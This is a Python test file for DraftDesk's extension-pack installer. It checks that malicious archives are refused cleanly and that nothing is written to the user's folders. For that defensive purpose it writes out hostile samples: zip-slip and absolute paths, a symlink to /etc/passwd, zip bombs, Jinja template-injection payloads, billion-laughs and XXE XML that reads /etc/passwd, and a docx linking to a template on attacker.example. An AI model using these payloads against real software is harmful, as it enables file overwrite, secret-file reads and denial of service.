"""Hostile packs: each refused by `draftdesk pack install` with one clear line and exit 2,
and nothing written to the user's folders or left in the temporary folder."""

from __future__ import annotations

import hashlib
import io
import json
import stat
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from draftdesk.cli import main
from draftdesk.packs.archive import read_archive, write_archive
from draftdesk.packs.catalog import SigningKey, build, sign_archive
from draftdesk.packs.registry import PackRegistry
from tests.packs.builders import (
    extension_files,
    extension_folder,
    key_pair,
    raw_zip,
    snapshot,
    unix_entry,
)
from tests.packs.conftest import UserFolders

Maker = Callable[[UserFolders], Path]
GOOD = extension_files()


def _zip(*entries: tuple[str | zipfile.ZipInfo, bytes]) -> Maker:
    """An archive of the good extension plus hostile `entries`."""

    def make(folders: UserFolders) -> Path:
        good = [(name, str(text).encode()) for name, text in GOOD.items()]
        return raw_zip(folders.work / "hostile.ddpack", [*good, *entries])

    return make


def _pack(**changes: str | bytes) -> Maker:
    """A well-formed archive of the extension with some files replaced or added."""

    def make(folders: UserFolders) -> Path:
        files = {name: str(text).encode() for name, text in GOOD.items()}
        files.update(
            {name: v if isinstance(v, bytes) else v.encode() for name, v in changes.items()}
        )
        path = folders.work / "hostile.ddpack"
        path.write_bytes(write_archive(files))
        return path

    return make


def _clause_fr(template: str) -> Maker:
    """The extension whose clause has `template` as its French template."""
    return _pack(
        **{"clauses/welcomes-host-offer.toml": f"{_without_french()}fr = {json.dumps(template)}\n"}
    )


def _manifest(old: str, new: str) -> Maker:
    manifest = str(GOOD["pack.toml"])
    assert old in manifest
    return _pack(**{"pack.toml": manifest.replace(old, new, 1)})


def _docx(*parts: tuple[str, bytes]) -> bytes:
    """A .docx holding `parts` (plus content types and a well-formed styles part)."""
    base = {
        "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.'
        b'openxmlformats.org/package/2006/content-types"/>',
        "word/styles.xml": b'<?xml version="1.0"?><w:styles xmlns:w="http://schemas.'
        b'openxmlformats.org/wordprocessingml/2006/main"/>',
    }
    base.update(dict(parts))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in base.items():
            archive.writestr(name, data)
    return buffer.getvalue()


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>
<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">&lol2;</w:styles>
"""
XXE = b"""<?xml version="1.0"?>
<!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">&secret;</w:styles>
"""
EXTERNAL_TEMPLATE = b"""<?xml version="1.0"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
 Target="file://attacker.example/share/template.dotm" TargetMode="External"/></Relationships>
"""


def _noise(size: int) -> bytes:
    """Incompressible bytes (so a size limit, not the ratio check, refuses them)."""
    blocks = (hashlib.sha256(str(i).encode()).digest() for i in range(size // 32 + 1))
    return b"".join(blocks)[:size]


def _signed(tamper: Callable[[dict[str, bytes]], None]) -> Callable[[UserFolders], Path]:
    """The extension built, signed, then altered by `tamper` (files by name)."""

    def make(folders: UserFolders) -> Path:
        path = folders.work / "signed.ddpack"
        key, _ = key_pair(folders.work)
        build(extension_folder(folders.work), path, PackRegistry(), SigningKey(key))
        files = read_archive(path)
        tamper(files)
        path.write_bytes(write_archive(files))
        return path

    return make


def _untrusted(folders: UserFolders) -> Path:
    path = folders.work / "signed.ddpack"
    key, _ = key_pair(folders.work, "Someone Unknown")
    build(extension_folder(folders.work), path, PackRegistry())
    sign_archive(path, SigningKey(key))
    return path


def _unsigned(folders: UserFolders) -> Path:
    path = folders.work / "unsigned.ddpack"
    build(extension_folder(folders.work), path, PackRegistry())
    return path


def _huge_archive(folders: UserFolders) -> Path:
    path = folders.work / "huge.ddpack"
    with path.open("wb") as handle:
        handle.truncate(21 * 1024 * 1024)
    return path


def _many_entries(folders: UserFolders) -> Path:
    entries = [(f"clauses/c{i}.toml", b"") for i in range(501)]
    return raw_zip(folders.work / "many.ddpack", entries)


def _encrypted(folders: UserFolders) -> Path:
    """An entry flagged as encrypted (zipfile cannot write one: set the flag bit by hand)."""
    path = _zip(("clauses/secret.toml", b"x"))(folders)
    data = bytearray(path.read_bytes())
    name = b"clauses/secret.toml"
    for signature, flags_at, name_at in ((b"PK\x03\x04", 6, 30), (b"PK\x01\x02", 8, 46)):
        start = 0
        while (start := data.find(signature, start)) != -1:
            if data[start + name_at : start + name_at + len(name)] == name:
                data[start + flags_at] |= 0x1
            start += 4
    path.write_bytes(bytes(data))
    return path


def _not_a_zip(folders: UserFolders) -> Path:
    path = folders.work / "text.ddpack"
    path.write_text("hello", encoding="utf-8")
    return path


def _without_french() -> str:
    head, _, _ = str(GOOD["clauses/welcomes-host-offer.toml"]).rpartition("\nfr = ")
    return head + "\n"


def _deep_toml(folders: UserFolders) -> Path:
    return _pack(**{"phrases/deep.toml": "x = " + "[" * 5000 + "]" * 5000})(folders)


def _change_clause(files: dict[str, bytes]) -> None:
    files["clauses/welcomes-host-offer.toml"] += b"\n# changed\n"


def _add_clause(files: dict[str, bytes]) -> None:
    files["clauses/extra.toml"] = files["clauses/welcomes-host-offer.toml"]


def _rename_signer(files: dict[str, bytes]) -> None:
    files["signature.toml"] = files["signature.toml"].replace(
        b'signer = "Permanent Mission of Exampleland"', b'signer = "United Nations Secretariat"'
    )


# name → (archive maker, extra install options, what the one-line message must say)
HOSTILE: dict[str, tuple[Maker, tuple[str, ...], str]] = {
    "zip-slip": (_zip(("../evil.toml", b"x")), (), "'..' would leave the pack folder (zip slip)"),
    "zip-slip-nested": (
        _zip(("clauses/../../../home/evil.toml", b"x")),
        (),
        "'..' would leave the pack folder (zip slip)",
    ),
    "absolute-path": (_zip(("/etc/cron.d/evil", b"x")), (), "absolute paths are not accepted"),
    "windows-drive": (_zip(("C:/Windows/evil.toml", b"x")), (), "absolute paths are not accepted"),
    "backslash": (_zip(("..\\evil.toml", b"x")), (), "the name uses '\\' (zip names use '/')"),
    "symlink": (
        _zip((unix_entry("clauses/link.toml", stat.S_IFLNK | 0o777), b"/etc/passwd")),
        (),
        "symbolic links are not accepted",
    ),
    "device-file": (
        _zip((unix_entry("clauses/dev.toml", stat.S_IFCHR | 0o644), b"")),
        (),
        "device files, pipes and sockets are not accepted",
    ),
    "fifo": (
        _zip((unix_entry("clauses/fifo.toml", stat.S_IFIFO | 0o644), b"")),
        (),
        "device files, pipes and sockets are not accepted",
    ),
    "duplicate-name": (_zip(("pack.toml", b"[pack]\n")), (), "duplicate of 'pack.toml'"),
    "duplicate-by-case": (
        _zip(("CLAUSES/welcomes-host-offer.toml", b"")),
        (),
        "duplicate of 'clauses/welcomes-host-offer.toml'",
    ),
    "unexpected-file": (_zip(("tools/run.py", b"import os")), (), "not a file a pack may hold"),
    "encrypted": (_encrypted, (), "encrypted entries are not accepted"),
    "zip-bomb": (
        _zip(("clauses/bomb.toml", b" " * (1536 * 1024))),
        (),
        "compressed more than 100 to 1 (a zip bomb?), refused",
    ),
    "oversized-file": (
        _zip(("clauses/big.toml", _noise(3 * 1024 * 1024))),
        (),
        "3.0 MiB, more than 2.0 MiB",
    ),
    "oversized-archive": (_huge_archive, (), "the archive is 21.0 MiB, more than 20.0 MiB"),
    "too-many-entries": (_many_entries, (), "501 entries, more than 500"),
    "not-a-zip": (_not_a_zip, (), "not a valid .ddpack (zip) archive"),
    "template-mro": (
        _clause_fr("{{ ''.__class__.__mro__ }}"),
        (),
        "clauses/welcomes-host-offer.toml:16: [templates].fr: attribute '__class__' is not "
        "allowed in a pack",
    ),
    "template-globals": (
        _clause_fr("{{ country }}{{ session }}{{ cycler.__init__.__globals__ }}"),
        (),
        "attribute '__init__' is not allowed in a pack",
    ),
    "template-attr-filter": (
        _clause_fr("{{ country|attr('__class__') }}{{ session }}"),
        (),
        "filter 'attr' is not available",
    ),
    "template-reads-file": (
        _clause_fr("{% include '/etc/passwd' %}{{ country }}{{ session }}"),
        (),
        "{% include %} is not allowed: a pack template cannot read other templates or files",
    ),
    "template-imports": (
        _clause_fr("{% import 'os' as os %}{{ country }}{{ session }}"),
        (),
        "{% import %} is not allowed",
    ),
    "template-amplifies": (
        _clause_fr("{{ country }}{{ session }}{{ 'x' * 10**9 }}"),
        (),
        "'*' is not allowed in a pack",
    ),
    "template-calls-method": (
        _clause_fr("{{ country.format(session) }}"),
        (),
        "calling a method or function is not allowed in a pack (use a filter)",
    ),
    "wrong-manifest-type": (
        _manifest('version = "1.0.0"', "version = 1"),
        (),
        "pack.toml:4: [pack].version: expected text, found a number (1)",
    ),
    "wrong-languages-type": (
        _manifest('extends = "un-ga"', 'extends = "un-ga"\nlanguages = "en"'),
        (),
        "[pack].languages: expected a list, found text ('en')",
    ),
    "unknown-language": (
        _manifest('extends = "un-ga"', 'extends = "un-ga"\nlanguages = ["en", "de"]'),
        (),
        "[pack].languages[1]: 'de' is not one of en, fr",
    ),
    "missing-language": (
        _pack(**{"clauses/welcomes-host-offer.toml": _without_french()}),
        (),
        "clauses/welcomes-host-offer.toml:14: [templates]: no FR template (the pack is in en, fr)",
    ),
    "toml-nesting": (_deep_toml, (), "phrases/deep.toml: arrays or tables nested too deeply"),
    "toml-not-utf8": (
        _pack(**{"phrases/latin1.toml": "[preambular.x]\nen = 'Caf\xe9'".encode("latin-1")}),
        (),
        "phrases/latin1.toml: not UTF-8 text",
    ),
    "bidi-author": (
        _manifest(
            'author = "Permanent Mission of Exampleland"',
            'author = "United Nations\u202e dnalelpmaxE"',
        ),
        (),
        "[pack].author: contains a bidirectional control (U+202E)",
    ),
    "min-draftdesk": (
        _manifest('min_draftdesk = "0.1.0"', 'min_draftdesk = "99.0.0"'),
        (),
        "the pack needs DraftDesk 99.0.0 or later",
    ),
    "missing-base": (
        _manifest('extends = "un-ga"', 'extends = "no-such-pack"'),
        (),
        "the base pack 'no-such-pack' 1.0.0 or later is needed (available: not installed)",
    ),
    "docx-billion-laughs": (
        _pack(**{"reference.docx": _docx(("word/styles.xml", BILLION_LAUGHS))}),
        (),
        "reference.docx: word/styles.xml: line 2: a DOCTYPE declaration is not accepted",
    ),
    "docx-external-entity": (
        _pack(**{"reference.docx": _docx(("word/styles.xml", XXE))}),
        (),
        "a DOCTYPE declaration is not accepted (DTDs and entities can expand",
    ),
    "docx-external-template": (
        _pack(**{"reference.docx": _docx(("word/_rels/settings.xml.rels", EXTERNAL_TEMPLATE))}),
        (),
        "links to an external resource ('file://attacker.example/share/template.dotm')",
    ),
    "docx-macros": (
        _pack(**{"reference.docx": _docx(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0"))}),
        (),
        "word/vbaProject.bin: macros and embedded objects are refused",
    ),
    "docx-zip-bomb": (
        _pack(**{"reference.docx": _docx(("word/document.xml", b" " * (4 * 1024 * 1024)))}),
        (),
        "reference.docx: entry 'word/document.xml': compressed more than 100 to 1",
    ),
    "tampered-file": (
        _signed(_change_clause),
        ("--allow-unsigned",),
        "signature invalid: clauses/welcomes-host-offer.toml was changed after signing; the "
        "pack was tampered with, refused",
    ),
    "file-added-after-signing": (
        _signed(_add_clause),
        ("--allow-unsigned",),
        "clauses/extra.toml was added after signing",
    ),
    "signer-renamed": (
        _signed(_rename_signer),
        ("--allow-unsigned",),
        "the signature does not match (signature.toml was altered)",
    ),
    "untrusted-key": (_untrusted, (), "is signed by Someone Unknown, key "),
    "unsigned": (
        _unsigned,
        (),
        "un-ga-exampleland 1.0.0 by 'Permanent Mission of Exampleland' is not signed",
    ),
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_pack_is_refused_and_nothing_is_written(
    name: str, user_folders: UserFolders, capsys: pytest.CaptureFixture[str]
) -> None:
    """install exits 2 with one line naming the fault; user folders and temp stay as they were."""
    maker, options, needle = HOSTILE[name]
    archive = maker(user_folders)
    capsys.readouterr()
    allow = () if "unsigned" in name or "untrusted" in name else ("--allow-unsigned",)
    before = snapshot(user_folders.data, user_folders.config, user_folders.temp)
    work_before = snapshot(user_folders.work)
    code = main(["pack", "install", str(archive), *allow, *options])
    captured = capsys.readouterr()
    assert code == 2
    assert "Traceback" not in captured.out + captured.err
    lines = captured.err.splitlines()
    assert len(lines) == 1, captured.err
    assert lines[0].startswith(f"draftdesk: {archive}"), lines[0]
    assert needle in lines[0], lines[0]
    assert snapshot(user_folders.data, user_folders.config, user_folders.temp) == before
    assert not user_folders.data.exists()
    assert list(user_folders.temp.iterdir()) == []
    assert snapshot(user_folders.work) == work_before


def test_hostile_template_found_by_validate_with_every_fault(
    user_folders: UserFolders, capsys: pytest.CaptureFixture[str]
) -> None:
    """validate lists each fault of a hostile clause on its own line, then exits 2."""
    archive = _clause_fr("{{ ''.__class__ }}{% include 'x' %}{{ secret }}")(user_folders)
    capsys.readouterr()
    assert main(["pack", "validate", str(archive)]) == 2
    err = capsys.readouterr().err.splitlines()
    where = f"{archive}/clauses/welcomes-host-offer.toml:16: [templates].fr: "
    assert err == [
        f"{where}{{% include %}} is not allowed: a pack template cannot read other templates "
        "or files",
        f"{where}attribute '__class__' is not allowed in a pack",
        f"{where}uses {{{{ secret }}}} but the clause declares no slot 'secret'",
        f"{where}slot 'country' is declared but not used",
        f"{where}slot 'session' is declared but not used",
        f"draftdesk: {archive}: 5 error(s)",
    ]
